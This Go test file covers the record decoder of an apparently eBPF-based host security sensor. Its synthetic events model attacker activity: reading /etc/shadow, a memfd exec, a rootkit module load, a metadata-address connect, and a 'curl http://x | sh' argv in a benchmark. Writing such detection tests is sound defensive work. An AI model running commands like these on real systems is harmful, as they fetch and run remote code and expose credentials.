package sensor

import (
	"encoding/binary"
	"errors"
	"reflect"
	"strconv"
	"strings"
	"testing"
	"time"
	"unsafe"

	"mamori/internal/runtime/event"
)

// rec builds a ring-buffer record the way bpf/sensor.bpf.c lays it out.
type rec struct {
	kind, sysid          uint32
	ts, cgid, start      uint64
	capEff, capPerm      uint64
	ret                  int64
	a                    [6]uint64
	pid, tid, ppid       uint32
	uid, gid, euid, egid uint32
	loginuid             uint32
	mnt, pidns, net      uint32
	flags                uint32
	comm                 string
	sects                []sect
	sizeDelta            int // added to the size field (hostile records)
}

type sect struct {
	typ  uint16
	data []byte
}

func (r rec) bytes() []byte {
	b := make([]byte, hdrSize)
	le := binary.LittleEndian
	le.PutUint64(b[offTs:], r.ts)
	le.PutUint64(b[offCgid:], r.cgid)
	le.PutUint64(b[offStart:], r.start)
	le.PutUint64(b[offCapEff:], r.capEff)
	le.PutUint64(b[offCapPerm:], r.capPerm)
	le.PutUint64(b[offRet:], uint64(r.ret))
	for i, v := range r.a {
		le.PutUint64(b[offA+8*i:], v)
	}
	for off, v := range map[int]uint32{
		offKind: r.kind, offSysid: r.sysid, offPid: r.pid, offTid: r.tid, offPpid: r.ppid,
		offUID: r.uid, offGID: r.gid, offEUID: r.euid, offEGID: r.egid, offLoginUID: r.loginuid,
		offMntns: r.mnt, offPidns: r.pidns, offNetns: r.net, offFlags: r.flags,
	} {
		le.PutUint32(b[off:], v)
	}
	copy(b[offComm:offComm+15], r.comm)
	for _, s := range r.sects {
		var h [4]byte
		le.PutUint16(h[0:], s.typ)
		le.PutUint16(h[2:], uint16(len(s.data)))
		b = append(b, h[:]...)
		b = append(b, s.data...)
	}
	le.PutUint32(b[offSize:], uint32(len(b)+r.sizeDelta))
	return b
}

func code(k event.Kind) uint32 { return uint32(kindCode(k)) }

func sockaddrIn(ip [4]byte, port uint16) []byte {
	b := make([]byte, 16)
	binary.LittleEndian.PutUint16(b, event.AFInet)
	binary.BigEndian.PutUint16(b[2:], port)
	copy(b[4:], ip[:])
	return b
}

func sockinfo(family, typ, proto uint16, lip [4]byte, lport uint16, rip [4]byte, rport uint16) []byte {
	b := make([]byte, sockinfoLen)
	le := binary.LittleEndian
	le.PutUint16(b[0:], family)
	le.PutUint16(b[2:], typ)
	le.PutUint16(b[4:], proto)
	le.PutUint16(b[6:], lport)
	le.PutUint16(b[8:], rport)
	copy(b[12:], lip[:])
	copy(b[28:], rip[:])
	return b
}

var boot = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

func TestDecodeRecords(t *testing.T) {
	cases := []struct {
		name  string
		r     rec
		check func(t *testing.T, e *event.Event)
	}{
		{
			name: "exec with argv, cwd, parent, memfd",
			r: rec{kind: code(event.KindExec), ts: 1500, pid: 42, tid: 42, ppid: 1, uid: 1000, euid: 0, loginuid: 0xffffffff,
				capEff: 1 << event.CapSysAdmin, start: 123456789, comm: "evil", cgid: 77, mnt: 4026531840,
				flags: fTTY | fExeMemfd | fExeUnlinked, a: [6]uint64{0, 0, 0, 0o100755, 99, 8<<20 | 3},
				sects: []sect{
					{sExe, []byte("/memfd:x")},
					{sArgs, []byte("sh\x00-c\x00echo hi\n\x00")},
					{sCwd, []byte("/tmp")},
					{sFilename, []byte("/proc/self/fd/3")},
					{sParentComm, []byte("bash\x00")},
					{sParentExe, []byte("/usr/bin/bash")},
				}},
			check: func(t *testing.T, e *event.Event) {
				p := e.Process
				if e.Kind != event.KindExec || e.Syscall != "" || !e.Time.Equal(boot.Add(1500)) {
					t.Errorf("header: %+v", e)
				}
				if p.PID != 42 || p.UID != 1000 || p.EUID != 0 || p.LoginUID != -1 || p.Comm != "evil" || p.StartTime != 123456789 {
					t.Errorf("process: %+v", p)
				}
				if !reflect.DeepEqual(p.Args, []string{"sh", "-c", "echo hi\n"}) || p.Cwd != "/tmp" || p.Exe != "/memfd:x" {
					t.Errorf("argv/cwd/exe: %q %q %q", p.Args, p.Cwd, p.Exe)
				}
				if !p.TTY || !p.ExeFromMemfd || !p.ExeUnlinked || !p.HasCap(event.CapSysAdmin) {
					t.Errorf("flags: %+v", p)
				}
				if p.ParentComm != "bash" || p.ParentExe != "/usr/bin/bash" || e.File.Path != "/proc/self/fd/3" {
					t.Errorf("parent/file: %+v %+v", p, e.File)
				}
				if e.File.Inode != 99 || e.File.Dev != 8<<8|3 || e.CgroupID != 77 || e.Namespaces.Mnt != 4026531840 {
					t.Errorf("ids: %+v cg %d ns %+v", e.File, e.CgroupID, e.Namespaces)
				}
			},
		},
		{
			name: "write open (O_CREAT mode kept)",
			r: rec{kind: code(event.KindWrite), sysid: uint32(sysOpenat), ret: 3, flags: fPathResolved,
				a:     [6]uint64{0o1101, 0o644, uint64(0xffffffffffffff9c), 0o100644, 5, 0},
				sects: []sect{{sPath, []byte("/etc/cron.d/x")}}},
			check: func(t *testing.T, e *event.Event) {
				f := e.File
				if e.Kind != event.KindWrite || e.Syscall != "openat" || e.Ret != 3 || f.Path != "/etc/cron.d/x" || !f.Resolved || f.Flags != 0o1101 || f.Mode != 0o644 || f.Inode != 5 {
					t.Errorf("%+v %+v", e, f)
				}
			},
		},
		{
			name: "failed open keeps the errno, unresolved path",
			r:    rec{kind: code(event.KindOpen), sysid: uint32(sysOpen), ret: -13, sects: []sect{{sPath, []byte("/etc/shadow")}}},
			check: func(t *testing.T, e *event.Event) {
				if e.Ret != -13 || !e.Failed() || e.File.Resolved || e.File.Mode != 0 {
					t.Errorf("%+v", e)
				}
			},
		},
		{
			name: "rename",
			r: rec{kind: code(event.KindRename), sysid: uint32(sysRenameat2), a: [6]uint64{1},
				sects: []sect{{sPath, []byte("/tmp/a")}, {sPath2, []byte("/usr/bin/ls")}}},
			check: func(t *testing.T, e *event.Event) {
				if e.File.Path != "/tmp/a" || e.File.NewPath != "/usr/bin/ls" || e.File.Flags != 1 {
					t.Errorf("%+v", e.File)
				}
			},
		},
		{
			name: "chmod setuid bit",
			r: rec{kind: code(event.KindChmod), sysid: uint32(sysFchmodat), a: [6]uint64{0, 0o104755},
				sects: []sect{{sPath, []byte("/tmp/x")}}},
			check: func(t *testing.T, e *event.Event) {
				if e.File.Mode != 0o4755 {
					t.Errorf("mode %o", e.File.Mode)
				}
			},
		},
		{
			name: "connect to the metadata address, refused",
			r: rec{kind: code(event.KindConnect), sysid: uint32(sysConnect), ret: -101,
				sects: []sect{{sSockaddr, sockaddrIn([4]byte{169, 254, 169, 254}, 80)},
					{sSockinfo, sockinfo(2, 1, 6, [4]byte{}, 0, [4]byte{}, 0)}}},
			check: func(t *testing.T, e *event.Event) {
				n := e.Net
				if n.DstAddr != "169.254.169.254" || n.DstPort != 80 || n.Protocol != "tcp" || n.Family != event.AFInet || n.SrcAddr != "" || e.Ret != -101 {
					t.Errorf("%+v", n)
				}
			},
		},
		{
			name: "accept from the kernel socket",
			r: rec{kind: code(event.KindAccept), sysid: uint32(sysAccept4), ret: 5,
				sects: []sect{{sSockinfo, sockinfo(2, 1, 6, [4]byte{127, 0, 0, 1}, 8080, [4]byte{127, 0, 0, 2}, 5555)}}},
			check: func(t *testing.T, e *event.Event) {
				n := e.Net
				if n.SrcAddr != "127.0.0.1" || n.SrcPort != 8080 || n.DstAddr != "127.0.0.2" || n.DstPort != 5555 {
					t.Errorf("%+v", n)
				}
			},
		},
		{
			name: "connect to an abstract unix socket",
			r: rec{kind: code(event.KindConnect), sysid: uint32(sysConnect),
				sects: []sect{{sSockaddr, append([]byte{1, 0, 0}, "dbus\x00\x00"...)}}},
			check: func(t *testing.T, e *event.Event) {
				if e.Net.DstAddr != "@dbus" || e.Net.Protocol != "unix" {
					t.Errorf("%+v", e.Net)
				}
			},
		},
		{
			name: "listen backlog",
			r: rec{kind: code(event.KindListen), sysid: uint32(sysListen), a: [6]uint64{3, 128},
				sects: []sect{{sSockinfo, sockinfo(2, 1, 6, [4]byte{0, 0, 0, 0}, 4444, [4]byte{}, 0)}}},
			check: func(t *testing.T, e *event.Event) {
				if e.Net.Backlog != 128 || e.Net.SrcPort != 4444 || e.Net.SrcAddr != "0.0.0.0" {
					t.Errorf("%+v", e.Net)
				}
			},
		},
		{
			name: "ptrace attach",
			r:    rec{kind: code(event.KindPtrace), sysid: uint32(sysPtrace), a: [6]uint64{16, 1234}},
			check: func(t *testing.T, e *event.Event) {
				if e.Ptrace.RequestName != "PTRACE_ATTACH" || e.Ptrace.TargetPID != 1234 {
					t.Errorf("%+v", e.Ptrace)
				}
			},
		},
		{
			name: "mount",
			r: rec{kind: code(event.KindMount), sysid: uint32(sysMount), a: [6]uint64{4096},
				sects: []sect{{sSource, []byte("/dev/sda1")}, {sPath, []byte("/mnt/host")}, {sFSType, []byte("ext4")}}},
			check: func(t *testing.T, e *event.Event) {
				m := e.Mount
				if m.Source != "/dev/sda1" || m.Target != "/mnt/host" || m.FSType != "ext4" || m.Flags != 4096 || e.File.Path != "" {
					t.Errorf("%+v %+v", m, e.File)
				}
			},
		},
		{
			name: "setresuid keeps unchanged ids as -1",
			r:    rec{kind: code(event.KindSetuid), sysid: uint32(sysSetresuid), a: [6]uint64{0xffffffff, 0, 0xffffffff}},
			check: func(t *testing.T, e *event.Event) {
				s := e.SetID
				if s.UID != -1 || s.EUID != 0 || s.SUID != -1 || s.GID != -1 {
					t.Errorf("%+v", s)
				}
			},
		},
		{
			name: "capset",
			r:    rec{kind: code(event.KindCapset), sysid: uint32(sysCapset), a: [6]uint64{1 << 21, 1<<21 | 1<<33, 0}},
			check: func(t *testing.T, e *event.Event) {
				if e.SetID.CapEffective != 1<<21 || e.SetID.CapPermitted != 1<<21|1<<33 {
					t.Errorf("%+v", e.SetID)
				}
			},
		},
		{
			name: "refused finit_module",
			r: rec{kind: code(event.KindModuleLoad), sysid: uint32(sysFinitModule), ret: -38, a: [6]uint64{3, 0},
				sects: []sect{{sPath, []byte("/tmp/rootkit.ko")}, {sModArgs, []byte("hide=1")}}},
			check: func(t *testing.T, e *event.Event) {
				if e.Syscall != "finit_module" || e.Ret != -38 || e.Module.Name != "/tmp/rootkit.ko" || e.Module.Args != "hide=1" || e.Module.FD != 3 || e.File.Path != "" {
					t.Errorf("%+v %+v", e, e.Module)
				}
			},
		},
		{
			name: "unshare",
			r:    rec{kind: code(event.KindUnshare), sysid: uint32(sysUnshare), a: [6]uint64{event.CloneNewNS | event.CloneNewUser}},
			check: func(t *testing.T, e *event.Event) {
				if strings.Join(e.NS.Types, ",") != "mnt,user" {
					t.Errorf("%+v", e.NS)
				}
			},
		},
		{
			name: "setns into a namespace file",
			r: rec{kind: code(event.KindSetns), sysid: uint32(sysSetns), a: [6]uint64{0, 4},
				sects: []sect{{sPath, []byte("/mnt:[4026531840]")}}},
			check: func(t *testing.T, e *event.Event) {
				if e.NS.Target != "/mnt:[4026531840]" || strings.Join(e.NS.Types, ",") != "mnt" || e.NS.FD != 4 {
					t.Errorf("%+v", e.NS)
				}
			},
		},
		{
			name: "memfd_create",
			r: rec{kind: code(event.KindMemfdCreate), sysid: uint32(sysMemfdCreate), ret: 3, a: [6]uint64{1},
				sects: []sect{{sName, []byte("payload")}}},
			check: func(t *testing.T, e *event.Event) {
				if e.Memfd.Name != "payload" || e.Memfd.Flags != 1 {
					t.Errorf("%+v", e.Memfd)
				}
			},
		},
		{
			name: "packet socket, flags stripped from the type",
			r:    rec{kind: code(event.KindSocket), sysid: uint32(sysSocket), a: [6]uint64{17, 3 | 0o2000000, 768}},
			check: func(t *testing.T, e *event.Event) {
				if e.Socket.Domain != 17 || e.Socket.Type != 3 || e.Socket.Protocol != 768 {
					t.Errorf("%+v", e.Socket)
				}
			},
		},
		{
			name: "bpf prog load",
			r:    rec{kind: code(event.KindBPF), sysid: uint32(sysBPF), a: [6]uint64{5}},
			check: func(t *testing.T, e *event.Event) {
				if e.BPF.CmdName != "BPF_PROG_LOAD" {
					t.Errorf("%+v", e.BPF)
				}
			},
		},
		{
			name: "exit by signal",
			r:    rec{kind: code(event.KindExit), a: [6]uint64{9, 9, signalGroupExit}},
			check: func(t *testing.T, e *event.Event) {
				if e.Ret != 137 || e.Syscall != "" {
					t.Errorf("ret %d", e.Ret)
				}
			},
		},
		{
			name: "exit code",
			r:    rec{kind: code(event.KindExit), a: [6]uint64{3 << 8}},
			check: func(t *testing.T, e *event.Event) {
				if e.Ret != 3 {
					t.Errorf("ret %d", e.Ret)
				}
			},
		},
		{
			name: "unknown section skipped",
			r: rec{kind: code(event.KindUnlink), sysid: uint32(sysUnlinkat),
				sects: []sect{{999, []byte("future")}, {sPath, []byte("/var/log/auth.log")}}},
			check: func(t *testing.T, e *event.Event) {
				if e.File.Path != "/var/log/auth.log" {
					t.Errorf("%+v", e.File)
				}
			},
		},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var e event.Event
			if _, err := decodeRecord(c.r.bytes(), boot, &e); err != nil {
				t.Fatal(err)
			}
			c.check(t, &e)
		})
	}
}

func TestDecodeMalformed(t *testing.T) {
	good := rec{kind: code(event.KindOpen), sysid: uint32(sysOpen), sects: []sect{{sPath, []byte("/etc/passwd")}}}.bytes()
	cases := map[string][]byte{
		"empty":            nil,
		"short header":     good[:hdrSize-1],
		"kind zero":        rec{}.bytes(),
		"kind too large":   rec{kind: 200}.bytes(),
		"sysid too large":  rec{kind: 1, sysid: 1000}.bytes(),
		"size beyond data": rec{kind: 1, sizeDelta: 10}.bytes(),
		"size under hdr":   rec{kind: 1, sizeDelta: -100}.bytes(),
		"section overrun":  append(rec{kind: 1, sizeDelta: 6}.bytes(), 1, 0, 200, 0, 'x', 'y'),
		"stray bytes":      append(rec{kind: 1, sizeDelta: 2}.bytes(), 1, 0),
	}
	for name, raw := range cases {
		var e event.Event
		if _, err := decodeRecord(raw, boot, &e); !errors.Is(err, ErrMalformed) {
			t.Errorf("%s: err = %v, want ErrMalformed", name, err)
		}
	}
}

func TestSplitArgs(t *testing.T) {
	many := strings.Repeat("a\x00", event.MaxArgs+10)
	args, trunc := splitArgs([]byte(many))
	if len(args) != event.MaxArgs || !trunc {
		t.Fatalf("%d args, truncated %v", len(args), trunc)
	}
	args, trunc = splitArgs([]byte("ls\x00-l\x00/tm")) // cut by the kernel mid-argument
	if !reflect.DeepEqual(args, []string{"ls", "-l", "/tm"}) || trunc {
		t.Fatalf("%q %v", args, trunc)
	}
	if args, _ := splitArgs(nil); args != nil {
		t.Fatalf("%q", args)
	}
	if args, _ := splitArgs([]byte("\x00\x00")); !reflect.DeepEqual(args, []string{""}) {
		t.Fatalf("%q", args)
	}
}

func TestUserDev(t *testing.T) {
	// MKDEV(8, 3) in the kernel is 8<<20|3; stat(2) shows makedev(8, 3) = 0x803.
	if got := userDev(8<<20 | 3); got != 0x803 {
		t.Fatalf("userDev = %#x", got)
	}
	// a large minor (overlay, anonymous devices: 0:NNN)
	if got := userDev(0<<20 | 300); got != uint64(300&0xff)|uint64(300&^0xff)<<12 {
		t.Fatalf("userDev minor 300 = %#x", got)
	}
}

func TestParseStatHostileComm(t *testing.T) {
	raw := []byte("1234 (evil) S 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20) R 99 1 1 34816 5 6 7 8 9 10 11 12 13 14 15 16 17 18 424242 20\n")
	st, err := parseStat(raw)
	if err != nil {
		t.Fatal(err)
	}
	if st.ppid != 99 || st.startTicks != 424242 || st.ttyNr != 34816 || !strings.HasPrefix(st.comm, "evil) S 1") {
		t.Fatalf("%+v", st)
	}
	for _, bad := range []string{"", "1234 no parens", "1 (x) S 1", "1 (x) S a b c d e f g h i j k l m n o p q r s t u"} {
		if _, err := parseStat([]byte(bad)); err == nil {
			t.Errorf("parseStat(%q) accepted", bad)
		}
	}
}

func TestPathFilter(t *testing.T) {
	f := pathFilter{include: []string{"/etc/", "/tmp/w/"}, exclude: []string{"/etc/ld.so.cache", "/etc/ssl/"}}
	for p, want := range map[string]bool{
		"/etc/shadow": true, "/etc/ld.so.cache": false, "/etc/ssl/certs/x": false, "/etc": false,
		"/tmp/w/a": true, "/tmp/x": false, "/usr/bin/ls": false,
	} {
		if got := f.match(p); got != want {
			t.Errorf("match(%s) = %v", p, got)
		}
	}
	if !(pathFilter{all: true}).match("/anything") {
		t.Error("all")
	}
}

func TestOptions(t *testing.T) {
	if _, err := makeOptions([]Option{WithPathPrefixes([]string{"relative/"}, nil)}); err == nil {
		t.Error("relative prefix accepted")
	}
	if _, err := makeOptions([]Option{WithRingBufferSize(5000)}); err == nil {
		t.Error("ring size not a power of two accepted")
	}
	if _, err := makeOptions([]Option{WithKinds("nope")}); err == nil {
		t.Error("unknown kind accepted")
	}
	if _, err := ParseMode("ebpf\n"); err != nil {
		t.Error(err)
	}
	if _, err := ParseMode("kprobe"); err == nil {
		t.Error("unknown mode accepted")
	}
	o, err := makeOptions(nil)
	if err != nil || len(o.kinds) != len(event.Kinds) || len(o.include) == 0 || !o.excludeSelf {
		t.Fatalf("defaults: %+v %v", o, err)
	}
}

func TestKindAndSyscallTables(t *testing.T) {
	if numKinds != len(event.Kinds)+1 {
		t.Fatalf("kindCodes has %d entries for %d kinds", numKinds, len(event.Kinds))
	}
	for _, k := range event.Kinds {
		if kindCode(k) == 0 {
			t.Errorf("kind %s has no kernel code", k)
		}
	}
	for i, n := range sysNames {
		if (i == 0) != (n == "") {
			t.Errorf("sysNames[%d] = %q", i, n)
		}
	}
	for _, table := range []map[uint32]sysid{syscallsAMD64, syscalls386} {
		for nr, id := range table {
			if nr >= 512 || id == sysNone || id >= sysMax {
				t.Errorf("table entry %d -> %d", nr, id)
			}
		}
	}
}

func BenchmarkDecode(b *testing.B) {
	recs := [][]byte{
		rec{kind: code(event.KindOpen), sysid: uint32(sysOpenat), ret: 3, flags: fPathResolved, comm: "cat",
			sects: []sect{{sPath, []byte("/etc/ssl/certs/ca-certificates.crt")}}}.bytes(),
		rec{kind: code(event.KindExec), comm: "sh", sects: []sect{
			{sExe, []byte("/usr/bin/dash")}, {sArgs, []byte("sh\x00-c\x00curl http://x | sh\x00")}, {sCwd, []byte("/root")},
			{sFilename, []byte("/bin/sh")}, {sParentComm, []byte("bash")}, {sParentExe, []byte("/usr/bin/bash")}}}.bytes(),
		rec{kind: code(event.KindConnect), sysid: uint32(sysConnect), sects: []sect{
			{sSockaddr, sockaddrIn([4]byte{10, 0, 0, 1}, 443)}, {sSockinfo, sockinfo(2, 1, 6, [4]byte{10, 0, 0, 2}, 40000, [4]byte{10, 0, 0, 1}, 443)}}}.bytes(),
	}
	b.ReportAllocs()
	var e event.Event
	for i := 0; b.Loop(); i++ {
		if _, err := decodeRecord(recs[i%len(recs)], boot, &e); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkDeliver is the user-space path of one ring-buffer record of an
// open storm: a new event decoded (by the reader's decoder, names
// interned), completed from the process cache (the opener is known) and
// counted, as ebpfBackend.run and Sensor.Run do.
func BenchmarkDeliver(b *testing.B) {
	raw := rec{kind: code(event.KindOpen), sysid: uint32(sysOpenat), ret: 3, flags: fPathResolved, comm: "harness",
		pid: 4242, start: 7e9, sects: []sect{{sPath, []byte("/etc/hostname")}}}.bytes()
	o, err := makeOptions(nil)
	if err != nil {
		b.Fatal(err)
	}
	s := &Sensor{o: o, filter: newPathFilter(o), procs: newProcCache("/nonexistent")}
	s.procs.put(4242, &procInfo{start: 7e9, exe: "/usr/bin/harness", args: []string{"harness", "storm"}, parentExe: "/usr/bin/bash", parentComm: "bash"})
	d := newDecoder(boot)
	var n int
	fn := func(e *event.Event) { n++ }
	b.ReportAllocs()
	for b.Loop() {
		e := new(event.Event)
		info, err := d.decode(raw, e)
		if err != nil {
			b.Fatal(err)
		}
		s.deliver(e, info, fn)
	}
	if n == 0 || s.stats.byKind[kindCode(event.KindOpen)].Load() == 0 {
		b.Fatal("nothing delivered")
	}
}

// TestDecoderComm: process names are interned (the same string for the same
// name, NUL and what follows it cut), a new name is read as it is, and the
// table stays bounded.
func TestDecoderComm(t *testing.T) {
	d := newDecoder(boot)
	var e1, e2, e3 event.Event
	for i, c := range []struct {
		comm string
		e    *event.Event
	}{{"harness", &e1}, {"harness", &e2}, {"harnesz", &e3}} {
		if _, err := d.decode(rec{kind: code(event.KindOpen), sysid: uint32(sysOpenat), comm: c.comm,
			sects: []sect{{sPath, []byte("/etc/hostname")}}}.bytes(), c.e); err != nil {
			t.Fatal(i, err)
		}
	}
	if e1.Process.Comm != "harness" || e2.Process.Comm != "harness" || e3.Process.Comm != "harnesz" {
		t.Fatalf("comms %q %q %q", e1.Process.Comm, e2.Process.Comm, e3.Process.Comm)
	}
	if unsafe.StringData(e1.Process.Comm) != unsafe.StringData(e2.Process.Comm) {
		t.Error("the same name was not interned")
	}
	full := []byte("0123456789abcdef") // 16 bytes, no NUL: the whole field
	if got := d.comm(full); got != string(full) {
		t.Errorf("comm of a full field = %q", got)
	}
	if got := d.comm([]byte("ab\x00cd")); got != "ab" {
		t.Errorf("comm cut at NUL = %q", got)
	}
	for i := range 3 * maxComms {
		d.comm([]byte(strconv.Itoa(i)))
	}
	if len(d.comms) > maxComms {
		t.Errorf("%d names interned, bound %d", len(d.comms), maxComms)
	}
	var plain decoder // decodeRecord's: no table
	if got := plain.comm([]byte("sh\x00")); got != "sh" || plain.comms != nil {
		t.Errorf("no-table comm = %q, table %v", got, plain.comms)
	}
}
